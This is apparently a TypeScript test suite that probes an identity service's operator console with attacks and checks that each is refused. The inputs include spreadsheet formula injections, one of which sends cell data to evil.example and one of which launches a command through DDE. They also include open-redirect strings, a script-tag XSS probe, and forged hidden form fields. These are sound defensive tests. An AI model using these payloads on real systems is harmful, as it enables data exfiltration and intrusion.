import { parse } from 'csv-parse/sync';
import { generateSync } from 'otplib';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { RealmConfig } from '../../src/config/index.ts';
import { CLI_CONTEXT } from '../../src/services/context.ts';
import { consoleSignIn, CONSOLE_HOST, CONSOLE_URL, makeOperator, type ConsoleBrowser } from '../helpers/console-login.ts';
import { browser, csrfOf, GOOD_PASSWORD, TEST_CONFIG, testGatehouse, uniqueEmail, type TestGatehouse } from '../helpers/gatehouse.ts';

/**
 * An attacker's pass over the operator console (DESIGN.md §6): what a viewer, an operator of another realm, an
 * end user of a realm or someone outside could try, beyond the authorization corpus's one request per route.
 * Each test asserts the refusal and that nothing changed. Real HTTP, real services, real SQLite.
 */
let gh: TestGatehouse;
let alpha: RealmConfig;
let beta: RealmConfig;
let offset = 0;
const now = () => Date.now() + offset;
let root: ConsoleBrowser;
let ownerAlpha: ConsoleBrowser;
let adminAlpha: ConsoleBrowser;

const grantsOf = async (id: string) => (await gh.management!.operators.grantsOf(id)).map((g) => `${g.realmId}:${g.role}`).sort();
const secretOf = (html: string) => /<p class="secret-once" translate="no">([^<]+)<\/p>/.exec(html)?.[1]?.replace(/&amp;/g, '&') ?? null;

/** POSTs a console form with the token of the console's home page. */
async function post(b: ConsoleBrowser, path: string, form: Record<string, string | string[]> = {}) {
  const page = await b.get('/admin');
  return b.post(path, { _csrf: csrfOf(page.text), ...form });
}

/** "Confirm it's you" with a code of a later time step than any used before (the clock moves on first: each step is accepted once). */
async function reauth(b: ConsoleBrowser) {
  offset += 35_000;
  const page = await b.get('/admin/reauth?next=/admin');
  const code = generateSync({ secret: b.secret, epoch: Math.floor(now() / 1000) + 30 });
  const ok = await b.post('/admin/reauth', { _csrf: csrfOf(page.text), password: GOOD_PASSWORD, code, next: '/admin' });
  expect(ok.status, ok.text).toBe(303);
}

async function human(realm: RealmConfig = alpha, extra: Record<string, unknown> = {}) {
  const email = uniqueEmail('person');
  const { user } = await gh.management!.users.create(realm, { userType: 'human', email, password: GOOD_PASSWORD, emailVerification: 'verified', ...extra }, CLI_CONTEXT);
  return user;
}

beforeAll(async () => {
  gh = await testGatehouse({ file: { ...TEST_CONFIG, console: { publicUrl: CONSOLE_URL } }, clock: () => new Date(now()) });
  alpha = gh.realms.byIdOrNull('alpha')!;
  beta = gh.realms.byIdOrNull('beta')!;
  root = await consoleSignIn(gh, await makeOperator(gh, [{ realmId: '*', role: 'owner' }]));
  ownerAlpha = await consoleSignIn(gh, await makeOperator(gh, [{ realmId: 'alpha', role: 'owner' }]));
  adminAlpha = await consoleSignIn(gh, await makeOperator(gh, [{ realmId: 'alpha', role: 'admin' }]));
});
afterAll(() => gh?.close());

describe('console attacks: export', () => {
  it('neutralises spreadsheet formulas an end user put in their own fields (=, +, -, @, tab, CR at the start of a cell)', async () => {
    const tag = `x${Math.random().toString(36).slice(2, 8)}`;
    const evil = await human(alpha, { firstName: '=HYPERLINK("https://evil.example/?"&A1,"open")', lastName: '+1+cmd|" /C calc"!A0', reference: `@SUM(1)${tag}`, custom: { note: '-2+3' } });
    const res = await adminAlpha.get(`/admin/realms/alpha/users/export.csv?q=${encodeURIComponent(evil.email!)}`);
    expect(res.status).toBe(200);
    const rows = parse(res.text, { columns: true, skip_empty_lines: true }) as Array<Record<string, string>>;
    expect(rows).toHaveLength(1);
    for (const [column, cell] of Object.entries(rows[0]!)) expect(cell, column).not.toMatch(/^[=+\-@\t\r]/);
    // Still readable: the value follows the neutralising quote.
    expect(rows[0]!.firstName).toBe(`'=HYPERLINK("https://evil.example/?"&A1,"open")`);
    expect(rows[0]!.reference).toBe(`'@SUM(1)${tag}`);
  });
});

describe('console attacks: step-up', () => {
  it('a stale sign-in confirms it’s you before a way into the user’s account: a reset link, a new password, a new email; nothing changes before', async () => {
    const user = await human();
    const path = `/admin/realms/alpha/users/${user.id}`;
    const hashBefore = await gh.store.passwordHashOf('alpha', user.id);
    const audited = (await gh.management!.audit.query({ realmId: 'alpha', targetId: user.id, limit: 50 })).length;
    offset += 6 * 60_000;
    const asks = `/admin/reauth?next=${encodeURIComponent(path)}`;
    // Impersonation asks (stepUp); these give more than impersonation does (the user's own sign-in), so they ask too.
    const link = await post(adminAlpha, `${path}/password-token`);
    expect(link.status).toBe(303);
    expect(link.headers.location).toBe(asks);
    expect(link.text).not.toContain('reset-password?token=');
    const password = await post(adminAlpha, path, { password: 'taken-over-by-op-77', passwordAgain: 'taken-over-by-op-77' });
    expect(password.status).toBe(303);
    expect(password.headers.location).toBe(asks);
    const email = await post(adminAlpha, path, { email: 'attacker@evil.example' });
    expect(email.headers.location).toBe(asks);
    const after = await gh.management!.users.get(alpha, user.id);
    expect(after.email).toBe(user.email);
    expect(await gh.store.passwordHashOf('alpha', user.id)).toBe(hashBefore);
    expect(await gh.management!.audit.query({ realmId: 'alpha', targetId: user.id, limit: 50 })).toHaveLength(audited);
    // Mailed, the link is on the page too: the same.
    const mailed = await post(adminAlpha, `${path}/password-token`, { send: 'true' });
    expect(mailed.headers.location).toBe(asks);
    expect(mailed.text).not.toContain('reset-password?token=');
    // Other fields do not ask.
    expect((await post(adminAlpha, path, { firstName: 'Stale' })).status).toBe(303);
    expect((await gh.management!.users.get(alpha, user.id)).firstName).toBe('Stale');
    // After "confirm it's you" each works.
    await reauth(adminAlpha);
    const shown = await post(adminAlpha, `${path}/password-token`);
    expect(shown.status).toBe(200);
    expect(secretOf(shown.text)).toMatch(/^http:\/\/alpha\.test\/reset-password\?token=/);
    expect((await post(adminAlpha, path, { password: 'chosen-by-the-op-77', passwordAgain: 'chosen-by-the-op-77' })).headers.location).toBe(path);
    expect(await gh.store.passwordHashOf('alpha', user.id)).not.toBe(hashBefore);
  });
});

describe('console attacks: redirects, hosts, reflection', () => {
  it('next= never leaves /admin: scheme-relative, backslashes, dot segments, encoded ones too, on sign-in and confirm it’s you', async () => {
    const out = ['//evil.example', '/admin//evil.example', 'https://evil.example/admin', '/admin\\@evil.example', '/admin/../login', '/admin/%2e%2e/login', '/admin/%2E%2e/%2e%2e/logout', '/admin/.%2e/login', '/admin%2f%2fevil.example', '/admin/%5c%5cevil.example', '/adminx'];
    for (const next of out) {
      const anonymous = await request(gh.app).get(`/admin/login?next=${encodeURIComponent(next)}`).set('Host', CONSOLE_HOST);
      expect(anonymous.status, next).toBe(303);
      const signedIn = await adminAlpha.get(`/admin/login?next=${encodeURIComponent(next)}`);
      expect(signedIn.headers.location, next).toBe('/admin');
      const page = await adminAlpha.get(`/admin/reauth?next=${encodeURIComponent(next)}`);
      expect(/name="next" value="([^"]*)"/.exec(page.text)?.[1], next).toBe('/admin');
    }
    // A console page with a query keeps it, encoded slashes and all.
    const kept = '/admin/realms/alpha/users?q=a%2Fb%2e';
    expect((await adminAlpha.get(`/admin/login?next=${encodeURIComponent(kept)}`)).headers.location).toBe(kept);
  });

  it('serves the console on its own host only: another realm’s host, or X-Forwarded-Host without a trusted proxy, is sent there', async () => {
    for (const set of [{ Host: 'alpha.test' }, { Host: 'login.beta.example' }, { Host: 'alpha.test', 'X-Forwarded-Host': CONSOLE_HOST }, { Host: 'console.test:8443' }]) {
      const r = adminAlpha.agent.get('/admin/realms/alpha/users');
      for (const [k, v] of Object.entries(set)) r.set(k, v);
      const res = await r;
      expect(res.status, JSON.stringify(set)).toBe(302);
      expect(res.headers.location).toBe(`${CONSOLE_URL}/admin`);
    }
  });

  it('reflects no markup from a query or a path (filters, cursors, ids, sections, next)', async () => {
    const x = '"><script>alert(1)</script>';
    const e = encodeURIComponent(x);
    for (const p of [`/admin/realms/alpha/users?q=${e}`, `/admin/realms/${e}/users`, `/admin/realms/alpha/users/${e}`, `/admin/reauth?next=${encodeURIComponent(`/admin?${x}`)}`, `/admin/realms/alpha/audit?after=${e}`, `/admin/realms/alpha/events?type=${e}`, `/admin/realms/alpha/settings/${e}`, `/admin/realms/alpha/users?sort=${e}`, `/admin/realms/alpha/apps/${e}`, `/admin/realms/alpha/operators/${e}`, `/admin/realms/alpha/orgs?q=${e}`, `/admin/realms/alpha/orgs?after=${e}`, `/admin/realms/alpha/orgs/${e}`, `/admin/realms/alpha/orgs/${e}/members`, `/admin/realms/alpha/memberships/${e}`, `/admin/realms/alpha/groups?q=${e}`, `/admin/realms/alpha/groups/${e}`]) {
      const res = await ownerAlpha.get(p);
      expect(res.status, p).toBeLessThan(500);
      expect(res.text, p).not.toContain('<script>alert');
      expect(res.headers['content-type'], p).toBe('text/html; charset=utf-8');
    }
  });
});

describe('console attacks: ids and fields', () => {
  it('the user form ignores fields it does not show (userType, realmId, id, passwordHash, counters, state without its box)', async () => {
    const user = await human();
    const before = await gh.management!.users.get(alpha, user.id);
    const hash = await gh.store.passwordHashOf('alpha', user.id);
    const res = await post(adminAlpha, `/admin/realms/alpha/users/${user.id}`, { firstName: 'New', userType: 'api', realmId: 'beta', id: 'hijack', passwordHash: '$argon2id$v=19$m=1,t=1,p=1$AAAA$AAAA', state: 'inactive', loginsCount: '99', createdAt: '2000-01-01', lastLoginIp: '6.6.6.6' });
    expect(res.status).toBe(303);
    const after = await gh.management!.users.get(alpha, user.id);
    expect(after).toMatchObject({ id: before.id, realmId: 'alpha', userType: 'human', state: 'active', loginsCount: before.loginsCount, lastLoginIp: before.lastLoginIp, firstName: 'New' });
    expect(after.createdAt).toEqual(before.createdAt);
    expect(await gh.store.passwordHashOf('alpha', user.id)).toBe(hash);
    expect(await gh.management!.users.get(beta, 'hijack').catch(() => null)).toBeNull();
  });

  it('ids of another user, realm or every realm are not found under this realm’s path: sessions, users, keys; nothing ended or revoked', async () => {
    await reauth(adminAlpha);
    const [u1, u2] = [await human(), await human()];
    const b = browser(gh);
    await b.submit('/login', { identifier: u2.email!, password: GOOD_PASSWORD });
    const [s2] = await gh.store.listLoginSessions('alpha', u2.id);
    expect((await post(adminAlpha, `/admin/realms/alpha/users/${u1.id}/sessions/${s2!.id}/delete`)).status).toBe(404);
    expect((await gh.store.listLoginSessions('alpha', u2.id)).map((s) => s.id)).toEqual([s2!.id]);
    expect((await b.get('/account')).status).toBe(200);
    const betaUser = await human(beta, { username: `b-${Math.random().toString(36).slice(2, 8)}` });
    for (const p of ['sessions/delete', 'password-token', 'credentials/password/delete', 'delete']) {
      const r = await post(adminAlpha, `/admin/realms/alpha/users/${betaUser.id}/${p}`, { send: 'true' });
      expect(r.status, `${p} ${r.headers.location}`).toBe(404);
    }
    expect((await gh.management!.users.get(beta, betaUser.id)).state).toBe('active');
    const betaKey = (await gh.management!.keys.create({ realmId: 'beta', access: 'read', name: 'beta reader' }, CLI_CONTEXT, null)).key.id;
    const starKey = (await gh.management!.keys.create({ realmId: null, access: 'read', name: 'every realm' } as never, CLI_CONTEXT, null)).key.id;
    for (const id of [betaKey, starKey]) {
      expect((await post(ownerAlpha, `/admin/realms/alpha/keys/${id}/revoke`)).status, id).toBe(404);
      expect((await gh.management!.keys.get(id)).revokedAt ?? null, id).toBeNull();
    }
    // The console realm's own users (the operators) are no realm's users, and its app no realm's app.
    expect((await ownerAlpha.get(`/admin/realms/alpha/users/${ownerAlpha.operatorId}`)).status).toBe(404);
    expect((await ownerAlpha.get('/admin/realms/console/apps/console')).status).toBe(404);
    expect((await post(ownerAlpha, `/admin/realms/console/users/${root.operatorId}/password-token`)).status).toBe(404);
  });
});

describe('console attacks: operators', () => {
  it('an owner of one realm gains nothing elsewhere: no role on another realm or *, no setup link for an owner of * they invite', async () => {
    await reauth(ownerAlpha);
    const target = await makeOperator(gh, [{ realmId: 'beta', role: 'viewer' }]);
    // Not on this realm: not found here, whatever the form says.
    expect((await post(ownerAlpha, `/admin/realms/alpha/operators/${target.id}`, { role: 'owner', realmId: 'beta' })).status).toBe(404);
    expect((await post(ownerAlpha, '/admin/realms/beta/operators/new', { email: target.email, role: 'owner' })).status).toBe(404);
    expect((await post(ownerAlpha, `/admin/operators/${ownerAlpha.operatorId}/grants`, { role: 'owner' })).status).toBe(404);
    expect((await post(ownerAlpha, `/admin/operators/${target.id}/grants`, { role: 'owner' })).status).toBe(404);
    expect(await grantsOf(target.id)).toEqual(['beta:viewer']);
    expect(await grantsOf(ownerAlpha.operatorId)).toEqual(['alpha:owner']);
    // An invite names this realm only: a posted realmId is no field of the form.
    expect((await post(ownerAlpha, '/admin/realms/alpha/operators/new', { email: target.email, role: 'viewer', realmId: '*' })).status).toBe(303);
    expect(await grantsOf(target.id)).toEqual(['alpha:viewer', 'beta:viewer']);
    // A not-yet-activated owner of *: invited here they get a grant, never a link; asking for one is refused.
    const email = uniqueEmail('star');
    const { operator } = await gh.management!.operators.create({ email, grants: [{ realmId: '*', role: 'owner' }] }, CLI_CONTEXT);
    const invited = await post(ownerAlpha, '/admin/realms/alpha/operators/new', { email: email.toUpperCase(), role: 'viewer' });
    expect(invited.status).toBe(303);
    expect(invited.text).not.toContain('reset-password?token=');
    const link = await post(ownerAlpha, `/admin/realms/alpha/operators/${operator.id}/setup-link`);
    expect(link.status).toBe(403);
    expect(link.text).not.toContain('reset-password?token=');
    expect(await grantsOf(operator.id)).toEqual(['*:owner', 'alpha:viewer']);
    expect(await gh.management!.operators.hasPassword(operator.id)).toBe(false);
  });

  it('a setup link is used once: after the password is chosen it opens nothing, in that browser or another', async () => {
    const { setupLink } = await gh.management!.operators.create({ email: uniqueEmail('pending'), grants: [{ realmId: 'alpha', role: 'viewer' }] }, CLI_CONTEXT);
    const url = new URL(setupLink);
    const b = browser(gh, CONSOLE_HOST);
    const opened = await b.get(url.pathname + url.search);
    const form = await b.get(String(opened.headers.location));
    expect((await b.post(String(opened.headers.location), { _csrf: csrfOf(form.text), password: 'chosen-by-the-operator-99' })).status).toBeLessThan(400);
    for (const again of [await browser(gh, CONSOLE_HOST).get(url.pathname + url.search), await b.get(url.pathname + url.search), await b.get(String(opened.headers.location))]) {
      expect(again.status).toBe(400);
      expect(again.text).not.toContain('name="password"');
    }
  });
});

describe('console attacks: a stale sign-in and the realm’s apps, settings and a user’s sign-in methods', () => {
  it('asks to confirm it’s you before editing, rotating or deleting an app, saving any settings section or deleting a sign-in method; nothing changes before', async () => {
    await gh.realmsService.createRealm({ id: 'stale', name: 'Stale', publicUrl: 'http://stale.test' }, CLI_CONTEXT);
    await gh.realmsService.createApp('stale', { clientId: 'shop', name: 'Shop', redirectUris: ['https://shop.example.com/cb'] }, CLI_CONTEXT);
    const stale = gh.realms.byIdOrNull('stale') ?? (await new Promise((r) => setTimeout(r, 400)), gh.realms.byIdOrNull('stale'))!;
    const user = await human(stale!);
    const before = { app: await gh.realmsService.getApp('stale', 'shop'), realm: await gh.realmsService.getRealm('stale'), hash: await gh.store.passwordHashOf('stale', user.id) };
    const audited = (await gh.management!.audit.query({ realmId: 'stale', limit: 100 })).length;
    offset += 6 * 60_000;
    const asks = (path: string) => `/admin/reauth?next=${encodeURIComponent(path)}`;
    const app = '/admin/realms/stale/apps/shop';
    const tries: Array<[string, Record<string, string>, string]> = [
      [app, { name: 'Shop', redirectUris: 'https://evil.example.com/cb', logoutRedirectUris: '', delivery: 'form_post' }, app],
      [`${app}/rotate`, {}, app],
      [`${app}/delete`, {}, `${app}/delete`],
      ['/admin/realms/stale/settings/signup', { policy: 'disabled' }, '/admin/realms/stale/settings/signup'],
      ['/admin/realms/stale/settings/mfa', { policy: 'off' }, '/admin/realms/stale/settings/mfa'],
      [`/admin/realms/stale/users/${user.id}/credentials/password/delete`, {}, `/admin/realms/stale/users/${user.id}`],
    ];
    for (const [path, form, back] of tries) {
      const res = await post(root, path, form);
      expect(res.status, path).toBe(303);
      expect(res.headers.location, path).toBe(asks(back));
      expect(res.text, path).not.toMatch(/secret-once/);
    }
    expect(await gh.realmsService.getApp('stale', 'shop')).toEqual(before.app);
    expect((await gh.realmsService.getRealm('stale')).settings).toEqual(before.realm.settings);
    expect(await gh.store.passwordHashOf('stale', user.id)).toBe(before.hash);
    expect(await gh.management!.audit.query({ realmId: 'stale', limit: 100 })).toHaveLength(audited);
    // After "confirm it's you" they work.
    await reauth(root);
    const rotated = await post(root, `${app}/rotate`);
    expect(rotated.status).toBe(200);
    expect(rotated.text).toMatch(/<p class="secret-once"[^>]*data-secret>[^<]{32,}<\/p>/);
    expect((await post(root, '/admin/realms/stale/settings/signup', { policy: 'disabled' })).status).toBe(303);
    expect((await gh.realmsService.getRealm('stale')).settings.signup.policy).toBe('disabled');
  });
});
